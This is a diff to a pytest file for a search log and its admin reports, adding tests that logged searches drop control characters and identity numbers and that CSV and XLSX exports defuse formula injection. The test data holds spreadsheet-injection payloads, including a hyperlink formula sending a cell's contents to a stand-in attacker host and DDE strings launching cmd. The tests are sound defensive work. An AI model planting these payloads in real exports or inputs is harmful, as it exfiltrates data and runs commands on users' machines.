@@ -1,8 +1,11 @@
 """Editors' tools for search: picks above the hits, a log of what is searched, reports of it in the admin."""
 
+import csv
+import io
 import types
 from datetime import date, timedelta
 
+import openpyxl
 import pytest
 
 from django.urls import reverse
@@ -129,6 +132,18 @@ def test_record_never_stores_personal_data_the_guard_finds(db):
     assert list(SearchQueryDay.objects.values_list("text", flat=True)) == ["orosanmälan"]
 
 
+def test_record_stores_no_control_or_format_characters(db):
+    querylog.record("våld\x00i\x07nära\x1b[31m\u202erelationer\x7f\x85", 0)
+    assert list(SearchQueryDay.objects.values_list("text", flat=True)) == ["våld i nära [31m relationer"]
+
+
+def test_an_identity_number_cut_by_the_length_limit_keeps_the_search_out_of_the_log(member_client, sections):
+    words = "orosanmälan " * 16  # 192 characters: the number crosses the 200th
+    member_client.get(reverse("search:search"), {"q": f"{words}19850709-9805"})
+    member_client.get(reverse("search:search"), {"q": words})
+    assert list(SearchQueryDay.objects.values_list("text", flat=True)) == [words.strip()]
+
+
 def test_record_costs_one_query(db, django_assert_num_queries):
     with django_assert_num_queries(1):
         querylog.record("våld", 1)
@@ -192,6 +207,52 @@ def test_the_reports_can_be_downloaded(editor_client, db):
     assert response.status_code == 200
     content = b"".join(response.streaming_content).decode()
     assert "stalkning,3,3," in content
+
+
+# Stored searches, as rows written before the log kept control characters out, and as they are exported.
+HOSTILE_SEARCHES = {
+    '=hyperlink("https://angripare.example/?d="&a1,"klicka")': '\'=hyperlink("https://angripare.example/?d="&a1,"klicka")',
+    "+cmd|' /c calc'!a0": "'+cmd|' /c calc'!a0",
+    "-2+3+cmd|' /c calc'!a0": "'-2+3+cmd|' /c calc'!a0",
+    "@sum(1+1)*cmd|' /c calc'!a0": "'@sum(1+1)*cmd|' /c calc'!a0",
+    "\t=1+2": "' =1+2",
+    "\r=1+3": "' =1+3",
+    " =1+4": "' =1+4",
+    "＝1+5": "'＝1+5",
+}
+# NUL too is kept out of the log (PostgreSQL would refuse it), so no stored row holds one.
+CONTROL_SEARCHES = ["våld\x01start", "våld\x07bell", "våld\x1b[31mescape", "våld\x0bvtab\x0cform"]
+
+
+def exported(client, url_name, export_format):
+    response = client.get(reverse(url_name), {"export": export_format})
+    assert response.status_code == 200
+    if export_format == "csv":
+        rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+        return [row[0] for row in rows[1:]]
+    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
+    assert all(cell.data_type == "s" for cell in cells)
+    return [cell.value for cell in cells]
+
+
+@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
+@pytest.mark.parametrize("url_name", ["search_reports:frequent", "search_reports:without_results"])
+def test_exported_searches_are_never_read_as_formulas(editor_client, url_name, export_format):
+    for number, text in enumerate(HOSTILE_SEARCHES):
+        searched(text, searches=number + 1, zero_results=1)
+    searched("våld", searches=100, zero_results=100)
+    texts = exported(editor_client, url_name, export_format)
+    assert texts[0] == "våld"
+    assert sorted(texts[1:]) == sorted(HOSTILE_SEARCHES.values())
+
+
+@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
+def test_searches_stored_with_control_characters_can_be_exported(editor_client, export_format):
+    for text in CONTROL_SEARCHES:
+        searched(text, zero_results=1)
+    texts = exported(editor_client, "search_reports:without_results", export_format)
+    assert sorted(texts) == ["våld [31mescape", "våld bell", "våld start", "våld vtab form"]
 
 
 @pytest.mark.parametrize("role", [roles.BOARD, roles.ADMINISTRATOR])
